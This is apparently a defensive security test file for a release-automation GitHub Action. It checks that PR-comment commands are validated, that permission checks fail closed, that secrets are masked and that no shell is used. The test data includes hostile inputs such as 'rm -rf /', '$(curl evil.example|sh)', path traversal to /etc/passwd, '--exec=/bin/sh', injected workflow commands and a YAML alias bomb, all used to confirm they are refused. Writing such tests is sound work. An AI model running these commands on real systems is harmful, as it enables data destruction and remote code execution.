/**
 * The security points of SECURITY.md, one test (or more) each. Where another suite already
 * proves a point, SECURITY.md names that test and this file adds only what was missing:
 *
 *  1. a PR comment is data, parsed and validated, never code; only collaborators with write
 *     permission or more may act; any error refuses (fail closed);
 *  2. names from people and files (releases, tasks, paths) never reach the file system or a
 *     URL unvalidated;
 *  3. secrets are masked before anything is printed, and never written anywhere;
 *  4. processes run without a shell, arguments verbatim;
 *  5. YAML is data: aliases are bounded, tags run no code.
 *
 * Real things throughout: the local GitHub API server, the action's run() with the runner's
 * environment, the action as a child process, krd in-process (test/helpers/krd-run.ts), temp
 * directories.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { run } from '../src/action/main';
import { SECRET_INPUTS } from '../src/action/config';
import { OarCliExecutor } from '../src/adapters/exec/oar-cli';
import { HttpProbes } from '../src/adapters/probes/http-probes';
import { LocalStore } from '../src/adapters/store/local';
import { InputError } from '../src/core/errors';
import { stateBoxPath } from '../src/core/version';
import { parseCommand } from '../src/triggers/commands';
import { parseStateBoxText } from '../src/statebox/yaml';
import { STATEBOX_REF, SUMMARY, boxOn, closeWorlds, commented, env, factoriesOf, replies, world } from './helpers/action-env';
import { runActionProcess } from './helpers/action-process';
import { FAKE_TOOL_INPUTS, OAR_ENV } from './helpers/working-tools';
import { writeEnvDumpScript } from './helpers/env-dump';
import { CANDIDATE, CHAIN_PASS, makeBox, testResultJson, testResultPathOf, writeBox } from './helpers/fake-world';
import { startGitHubServer } from './helpers/github-server';
import { krdRun } from './helpers/krd-run';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const FAKE_OAR = join(ROOT, 'test/helpers/fake-oar.mjs');
const dirs: string[] = [];
function tempDir(prefix = 'krd-sec-'): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(dir);
  return dir;
}
afterEach(async () => {
  await closeWorlds();
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});
afterAll(() => rmSync(SUMMARY, { force: true }));

const red = () => makeBox({ tasks: { ...CHAIN_PASS, 'analyze-candidate-build': 'Pass', 'push-to-cdn-staging': { status: 'Fail', result: 'CDN timeout' } } });
/** Every file under a directory, relative. */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name).slice(dir.length + 1))
    .sort();
}

// ---------------------------------------------------------------------------------------------
// 1. What a PR comment can and cannot do

describe('a PR comment is data, checked before anything runs', () => {
  it.each([
    ['a shell command after the release', '/release:drive 4.20.1;rm -rf /'],
    ['command substitution as the release', '/release:drive $(curl evil.example|sh)'],
    ['a path as the release', '/release:retry ../../../etc/passwd push-to-cdn-staging'],
    ['a task that is not in the flow', '/release:retry 4.20.1 ../../push-to-cdn-staging'],
    ['an option smuggled as the owner', '/release:drive 4.20.1 --exec=/bin/sh'],
  ])('%s (%s) from a writer is refused: confused, an answer, nothing read, written or run', async (_what, body) => {
    const w = await world([red()]);
    await using e = env(w, 'issue_comment', commented(w, { body, user: 'alice' }));
    await run(w.factories);
    expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
    expect(replies(w)[0]?.body).toMatch(/^@alice .*Nothing was changed\./s);
    expect(w.gh.commits).toEqual([]);
    expect(w.executor.starts).toEqual([]);
    // Nothing of the repository was read: the refusal comes before the driver.
    expect(w.gh.requests.filter((r) => r.path.includes('/contents/') || r.path.includes('/git/'))).toEqual([]);
    expect(w.gh.requests.some((r) => r.path.includes('..'))).toBe(false);
    expect(e.exitCode()).toBeUndefined();
  });

  it('only the first line is a command: a command hidden on a later line does nothing', async () => {
    const w = await world([red()]);
    await using e = env(w, 'issue_comment', commented(w, { body: 'Thanks!\n/release:accept 4.20.1 push-to-cdn-staging fine', user: 'alice' }));
    await run(w.factories);
    expect(e.infos()).toEqual(['Ignoring the comment: its first line is not a /release: command.']);
    expect(w.gh.requests).toEqual([]);
  });

  it.each([
    ['a writer', 'alice'],
    ['a reader', 'mallory'],
  ])('nothing from the comment starts a log line, so %s cannot issue workflow commands (::add-mask::, ::stop-commands::, fake ::error::)', async (_who, user) => {
    const w = await world([red()], { permissions: { mallory: 'read' } });
    const body = '/release:"::stop-commands::x" ::add-mask::4.20.1 ::error::fake\n::error::second line\n::add-mask::ghs_action_test';
    await using e = env(w, 'issue_comment', commented(w, { body, user }));
    await run(w.factories);
    const lines = e.stdout().split(/\r?\n/);
    expect(lines.filter((l) => /^::(stop-commands|error|warning|notice|set-output|set-env|add-path)/.test(l))).toEqual([]);
    expect(lines.filter((l) => l.startsWith('::add-mask::'))).toEqual(['::add-mask::ghs_action_test']); // the token input, nothing else
    expect(w.gh.commits).toEqual([]);
  });

  it('the permission is checked before the command is even read: a reader learns nothing about it', async () => {
    const w = await world([red()], { permissions: { mallory: 'read' } });
    await using _e = env(w, 'issue_comment', commented(w, { body: '/release:accept 4.20.1 push-to-cdn-staging', user: 'mallory' }));
    await run(w.factories);
    expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', '-1']);
    expect(replies(w).map((c) => c.body)).toEqual(['@mallory you need write permission on octo/releases to run release commands (you have read); nothing was changed.']);
    expect(w.gh.commits).toEqual([]);
  });

  it.each([
    ['404 (not a collaborator)', 404],
    ['401 (the token is refused)', 401],
    ['403 (the token may not read permissions)', 403],
    ['a dropped connection', 'reset'],
  ] as const)('fails closed when the permission check answers %s: refused as "none"', async (_what, status) => {
    const w = await world([red()]);
    w.gh.inject({ status, times: 20, match: { path: /\/collaborators\// } });
    await using _e = env(w, 'issue_comment', commented(w, { body: '/release:retry 4.20.1 push-to-cdn-staging', user: 'alice' }));
    await run(w.factories);
    expect(w.gh.commits).toEqual([]);
    expect(w.executor.starts).toEqual([]);
    expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', '-1']);
    expect(replies(w)[0]?.body).toContain('(you have none)');
  });

  it('a huge or hostile comment is refused cheaply and never throws', () => {
    // Refused without blowing up: a catastrophic parse would hit the test's timeout; no clock is read.
    const bodies = [
      `/release:accept 4.20.1 push-to-cdn-staging ${'a'.repeat(1_000_000)}`,
      `/release:drive ${'"'.repeat(100_000)}`,
      `/release:${'x'.repeat(50_000)}`,
      `/release:resolve 4.20.1 1 ${'word '.repeat(20_000)}`,
      '/release:status\u0000\u001b[2J',
    ];
    for (const body of bodies) expect(parseCommand(body)).toHaveProperty('error');
  });
});

// ---------------------------------------------------------------------------------------------
// 2. Names never reach the file system unvalidated

describe('a release or task name is validated before it becomes a path', () => {
  it.each(['../../../etc/passwd', '4.20.1/../../x', '4.20.1\u0000', '/4.20.1', '4.20', '4.20.1 ', '..', '4.20.1/../4.20.2'])('stateBoxPath(%j) throws InputError', (name) => {
    expect(() => stateBoxPath(name)).toThrow(InputError);
  });

  it('krd (in-process runs of the CLI) refuses a traversal release or task; nothing is created inside or outside the store', async () => {
    const parent = tempDir();
    const store = join(parent, 'store');
    mkdirSync(store);
    writeFileSync(join(parent, 'marker'), '');
    // A real StateBox, so a bad --task is refused for being a bad task.
    await writeBox(store, makeBox({ tasks: {} }));
    const box = readFileSync(join(store, stateBoxPath('4.20.1')), 'utf8');
    const runs = await Promise.all([
      krdRun(['issue', 'add', '../../pwned', 'text', '--store', store]),
      krdRun(['issue', 'add', '4.20.1', 'text', '--task', '../../../pwned', '--store', store]),
      krdRun(['drive', '--release', '../pwned', '--store', store]),
      krdRun(['status', '--release', '4.20.1/../../pwned', '--store', store]),
    ]);
    expect(runs.map((r) => r.code)).toEqual([1, 1, 1, 1]);
    expect(runs.map((r) => r.stderr.trim())).toEqual([
      'krd issue add: "../../pwned" is not a release: expected MAJOR.MINOR.PATCH such as 4.20.1 or 5.0.0-ec.3.',
      expect.stringMatching(/^krd issue add: --task \.\.\/\.\.\/\.\.\/pwned is not a task of 4\.20\.1; known tasks: create-test-report, /),
      'krd drive: "../pwned" is not a release: expected MAJOR.MINOR.PATCH such as 4.20.1 or 5.0.0-ec.3.',
      'krd status: "4.20.1/../../pwned" is not a release: expected MAJOR.MINOR.PATCH such as 4.20.1 or 5.0.0-ec.3.',
    ]);
    expect(filesUnder(parent)).toEqual(['marker', `store/${stateBoxPath('4.20.1')}`]);
    expect(readFileSync(join(store, stateBoxPath('4.20.1')), 'utf8')).toBe(box);
  }, 60_000);

  it('a LocalStore refuses paths that leave it, before touching the disk', async () => {
    const dir = tempDir();
    const store = new LocalStore(dir);
    for (const path of ['../x.yaml', '_releases/../../x.yaml', '/etc/passwd']) {
      await expect(store.write(path, 'x', { sha: undefined, message: 'm' })).rejects.toThrow(InputError);
    }
    expect(filesUnder(dir)).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// 3. Secrets

const SECRETS = {
  token: 'ghs_Secret_GitHubToken_0001',
  'mcp-token': 'mcp-Secret-0002',
  'errata-token': 'errata-Secret-0003',
  'gitlab-token': 'glpat-Secret-0004',
  'slack-token': 'xoxb-Secret-0005',
  'google-credentials': 'ya29.Secret-0006',
} as const;

/** The lines of `out` that show `secret` other than the add-mask command registering it. */
const leaks = (out: string, secret: string): string[] => out.split('\n').filter((l) => l.includes(secret) && l !== `::add-mask::${secret}`);

describe('secrets are masked before anything is printed, and written nowhere', () => {
  it('every secret input is one of SECURITY.md\'s list and registered with core.setSecret', () => {
    expect([...SECRET_INPUTS].sort()).toEqual(Object.keys(SECRETS).sort());
  });

  it('a run of the action process registers every secret input (and GITHUB_TOKEN / SLACK_BOT_TOKEN) first; no line, summary or output shows one', async () => {
    await using gh = await startGitHubServer({ token: SECRETS.token, branches: { [STATEBOX_REF]: {}, record: {} } });
    // oar and the analyzer exist and oar gets what it needs (the preflight), GITHUB_TOKEN and SLACK_BOT_TOKEN among it.
    const r = await runActionProcess({ event: 'schedule', inputs: { ...SECRETS, ...FAKE_TOOL_INPUTS, 'statebox-ref': STATEBOX_REF }, apiUrl: gh.url, env: OAR_ENV });
    expect(r.code).toBe(0);
    const lines = r.stdout.split('\n');
    const masks = lines.filter((l) => l.startsWith('::add-mask::'));
    // Every secret input, and nothing but secrets (oar's credentials from the environment are secrets too).
    const secretValues = new Set<string>([...Object.values(SECRETS), ...Object.values(OAR_ENV)]);
    expect(masks).toEqual(expect.arrayContaining(Object.values(SECRETS).map((s) => `::add-mask::${s}`)));
    expect(masks.filter((m) => !secretValues.has(m.slice('::add-mask::'.length)))).toEqual([]);
    // Registered before anything else is said.
    expect(lines.slice(0, masks.length).every((l) => l.startsWith('::add-mask::'))).toBe(true);
    for (const secret of Object.values(SECRETS)) {
      expect(leaks(r.stdout, secret)).toEqual([]);
      expect(r.stderr).not.toContain(secret);
      expect(r.summary).not.toContain(secret);
      expect(JSON.stringify(r.outputs)).not.toContain(secret);
    }
    // The token went where it belongs: the Authorization header of GitHub API calls.
    expect(gh.requests.length).toBeGreaterThan(0);
    expect(gh.requests.every((q) => q.headers.authorization === `token ${SECRETS.token}`)).toBe(true);
  }, 60_000);

  it('secrets taken from GITHUB_TOKEN and SLACK_BOT_TOKEN are masked too, also when the run fails on a bad input', async () => {
    const r = await runActionProcess({ event: 'schedule', inputs: { token: '', 'max-operations': 'many' }, env: { GITHUB_TOKEN: 'ghs_FromEnv_0007', SLACK_BOT_TOKEN: 'xoxb-FromEnv-0008' } });
    expect(r.code).toBe(1);
    const lines = r.stdout.split('\n');
    expect(lines.slice(0, 2).sort()).toEqual(['::add-mask::ghs_FromEnv_0007', '::add-mask::xoxb-FromEnv-0008']);
    expect(lines).toContain('::error::The max-operations input is "many"; accepted values: a whole number from 1 to 100000.');
    for (const secret of ['ghs_FromEnv_0007', 'xoxb-FromEnv-0008']) expect(leaks(r.stdout, secret)).toEqual([]);
  }, 60_000);

  it('a token GitHub refuses is named by its input, never shown', async () => {
    await using gh = await startGitHubServer({ token: 'the-right-one', branches: { [STATEBOX_REF]: {}, record: {} } });
    const r = await runActionProcess({ event: 'schedule', inputs: { token: SECRETS.token, ...FAKE_TOOL_INPUTS, 'statebox-ref': STATEBOX_REF }, apiUrl: gh.url, env: OAR_ENV });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/::error::.*GitHub rejected the GitHub token \(GITHUB_TOKEN\)/);
    expect(leaks(r.stdout, SECRETS.token)).toEqual([]);
    expect(r.summary).not.toContain(SECRETS.token);
  }, 60_000);

  // Was a KNOWN GAP: the children inherited the whole environment, every input included. They
  // now get an allow-list (src/adapters/exec/child-env.ts; table tests in exec-child-env.test.ts)
  // plus the names oar-env / analyzer-env give.
  it('the oar and analyzer child processes do not receive the action\'s secret inputs, the runner\'s tokens or GITHUB_TOKEN', async () => {
    const dir = tempDir();
    const script = writeEnvDumpScript(dir);
    const w = await world([makeBox({ tasks: {} })]);
    w.gh.setFile(testResultPathOf(CANDIDATE), testResultJson(CANDIDATE, { aggregated: true, accepted: false }), 'record');
    const runnerTokens = { ACTIONS_RUNTIME_TOKEN: 'runtime-jwt-0009', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-0010', GITHUB_TOKEN: 'ghs_FromEnv_0011', OAR_JWK: 'oar-own-0012' };
    const saved = { ...process.env };
    // What oar needs (the preflight checks it gets each), then the runner's own.
    const added = { ...OAR_ENV, ...runnerTokens };
    Object.assign(process.env, added);
    try {
      const oarDump = join(dir, 'oar.json');
      const analyzerDump = join(dir, 'analyzer.json');
      const { token: _token, ...secretInputs } = SECRETS; // the token input is the local GitHub's
      await using e = env(w, 'schedule', {}, {
        ...secretInputs,
        'oar-command': `${process.execPath} ${script} ${oarDump}`,
        'analyzer-command': `${process.execPath} ${script} ${analyzerDump} --analyze {build}`,
        'slack-channel': '',
        'sheet-id': '',
      });
      // oar's own GITHUB_TOKEN and SLACK_BOT_TOKEN (oar needs them: the preflight checks), set in the
      // step's env as a workflow does; the action env above cleared the runner's.
      for (const name of ['GITHUB_TOKEN', 'SLACK_BOT_TOKEN']) process.env[name] = OAR_ENV[name];
      await run(factoriesOf(w, ['executor', 'analyzer']));
      expect(e.errors()).toEqual([]);
      const secrets = [...Object.values(secretInputs), process.env['INPUT_TOKEN'] as string, runnerTokens.ACTIONS_RUNTIME_TOKEN, runnerTokens.ACTIONS_ID_TOKEN_REQUEST_TOKEN, runnerTokens.GITHUB_TOKEN];
      for (const dump of [oarDump, analyzerDump]) {
        expect(existsSync(dump), dump).toBe(true);
        const childEnv = JSON.parse(readFileSync(dump, 'utf8')) as Record<string, string>;
        for (const secret of secrets) expect(Object.values(childEnv), dump).not.toContain(secret);
        // GITHUB_TOKEN only for oar, and only the one its step's env gives it (oar's own StateBox writes).
        const own = dump === oarDump ? ['GITHUB_TOKEN'] : [];
        expect(Object.keys(childEnv).filter((k) => /^(INPUT_|ACTIONS_|GITHUB_)/.test(k) && !own.includes(k)), dump).toEqual([]);
        expect(childEnv['PATH']).toBe(process.env.PATH);
      }
      expect((JSON.parse(readFileSync(oarDump, 'utf8')) as Record<string, string>)['GITHUB_TOKEN']).toBe(OAR_ENV['GITHUB_TOKEN']);
      // Each child still gets its own: oar its documented variables, the analyzer none of them.
      expect((JSON.parse(readFileSync(oarDump, 'utf8')) as Record<string, string>)['OAR_JWK']).toBe('oar-own-0012');
      expect((JSON.parse(readFileSync(analyzerDump, 'utf8')) as Record<string, string>)['OAR_JWK']).toBeUndefined();
    } finally {
      for (const k of Object.keys(added)) if (saved[k] === undefined) delete process.env[k];
      else process.env[k] = saved[k];
    }
  });

  it('secrets never reach a StateBox: a comment quoting one is stored masked like any email, the token is never committed', async () => {
    const w = await world([red()]);
    await using _e = env(w, 'issue_comment', commented(w, { body: '/release:accept 4.20.1 push-to-cdn-staging CDN fixed, ask qe@example.com', user: 'alice' }));
    await run(w.factories);
    const text = w.gh.getFile(stateBoxPath('4.20.1'), STATEBOX_REF) ?? '';
    expect(boxOn(w, '4.20.1').tasks.find((t) => t.name === 'push-to-cdn-staging')?.result).toContain('CDN fixed, ask [EMAIL_REDACTED]');
    expect(text).not.toContain('qe@example.com');
    expect(w.gh.commits.length).toBeGreaterThan(0);
    for (const c of w.gh.commits) expect(c.message).not.toMatch(/ghs_|token/i);
  });

  // Was a KNOWN GAP: the token followed the MR's host. Now it goes to the gitlab-url origin only
  // (default https://gitlab.cee.redhat.com); more in http-probes-gitlab.test.ts.
  it('the GitLab token is only sent to the configured GitLab, not to the host a StateBox names', async () => {
    const seen: (string | undefined)[] = [];
    const server = createServer((req, res) => {
      seen.push(req.headers['private-token'] as string | undefined);
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ labels: [] }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const probes = new HttpProbes({ gitlabToken: SECRETS['gitlab-token'] });
      await probes.stageReleaseSucceeded(`http://127.0.0.1:${port}/attacker/project/-/merge_requests/1`).catch(() => false);
      expect(seen.filter((t) => t !== undefined)).toEqual([]);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });
});

// ---------------------------------------------------------------------------------------------
// 4. No shell

describe('processes run without a shell', () => {
  it('an oar-command input with ; and $() reaches the program as verbatim arguments; nothing is executed', async () => {
    const dir = tempDir();
    const log = join(dir, 'calls.jsonl');
    const pwned = join(dir, 'pwned');
    writeFileSync(join(dir, 'responses.json'), JSON.stringify({ '*': { stderr: 'task [Create Test Report] status is changed to [Pass]\n' } }));
    const w = await world([makeBox({ tasks: {} })]);
    const saved = { ...process.env };
    const added = { ...OAR_ENV, FAKE_OAR_RESPONSES: join(dir, 'responses.json'), FAKE_OAR_LOG: log };
    Object.assign(process.env, added);
    try {
      const inject = `--tag=$(touch ${pwned});touch ${pwned}`;
      // The fake oar reads its script from these; a child gets them only when oar-env names them.
      await using e = env(w, 'schedule', {}, { 'oar-command': `${process.execPath} ${FAKE_OAR} '${inject}' "\`touch ${pwned}\`"`, 'oar-env': 'FAKE_OAR_RESPONSES, FAKE_OAR_LOG' });
      // The runner's environment the action env above cleared: oar needs them (the preflight checks).
      for (const name of ['GITHUB_TOKEN', 'SLACK_BOT_TOKEN']) process.env[name] = OAR_ENV[name];
      await run(factoriesOf(w, ['executor']));
      expect(e.errors()).toEqual([]);
      const argv = readFileSync(log, 'utf8').trim().split('\n').map((l) => (JSON.parse(l) as { argv: string[] }).argv);
      // The preflight's --help first, then the task: both with the arguments verbatim.
      expect(argv).toEqual([
        [inject, `\`touch ${pwned}\``, '--help'],
        [inject, `\`touch ${pwned}\``, '-r', '4.20.1', 'create-test-report'],
      ]);
      expect(existsSync(pwned)).toBe(false);
    } finally {
      for (const k of Object.keys(added)) if (saved[k] === undefined) delete process.env[k];
      else process.env[k] = saved[k];
    }
  });

  it('the executor passes a release only after validating it, as one argument', async () => {
    const executor = new OarCliExecutor({ command: [process.execPath, FAKE_OAR], timeoutMs: 10_000 });
    const box = makeBox({ release: '4.20.1' });
    await expect(executor.start('create-test-report', { release: '4.20.1;id', statebox: box })).rejects.toThrow(InputError);
    await expect(executor.start('take-ownership', { release: '4.20.1', statebox: box, owner: '$(id)@x.example' })).rejects.toThrow(InputError);
  });

  it('no source file starts a process any other way than execFile with an argument array, and none asks for a shell', () => {
    const sources = filesUnder(join(ROOT, 'src')).filter((f) => f.endsWith('.ts'));
    const offenders: string[] = [];
    for (const file of sources) {
      const text = readFileSync(join(ROOT, 'src', file), 'utf8');
      if (/\bshell\s*:\s*true\b/.test(text)) offenders.push(`${file}: shell: true`);
      const imports = [...text.matchAll(/import\s*\{([^}]*)\}\s*from\s*'node:child_process'/g)].flatMap((m) => m[1]!.split(',').map((s) => s.trim()).filter(Boolean));
      for (const name of imports) if (name !== 'execFile' && !name.startsWith('type ')) offenders.push(`${file}: imports ${name} from node:child_process`);
      if (/from\s*'child_process'|require\(['"](node:)?child_process['"]\)/.test(text)) offenders.push(`${file}: child_process imported another way`);
    }
    expect(offenders).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// 5. YAML is data

describe('StateBox YAML is data', () => {
  const head = `schema_version: '1.0'\nrelease: 4.20.1\ncreated_at: '2025-11-01T00:00:00Z'\nupdated_at: '2025-11-01T00:00:00Z'\nmetadata: {}\ntasks: []\nissues: []\n`;

  it('a valid StateBox carrying an alias bomb is refused quickly, not expanded', () => {
    const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 10; i++) lines.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    expect(() => parseStateBoxText(`${head}x: 1\n`, 'plain.yaml')).not.toThrow(); // unknown fields alone are fine
    expect(() => parseStateBoxText(`${head}${lines.join('\n')}\n`, 'bomb.yaml')).toThrow(/bomb\.yaml: Excessive alias count/);
  });

  it('a tag that would run code in other YAML libraries is refused with a sentence naming it, never run', () => {
    const tagged = head.replace('release: 4.20.1', "release: !!js/function 'function () { process.exit(3) }'");
    expect(() => parseStateBoxText(tagged, 'tagged.yaml')).toThrow(InputError);
    expect(() => parseStateBoxText(tagged, 'tagged.yaml')).toThrow('the YAML tag !!js/function is not allowed in a StateBox');
  });
});
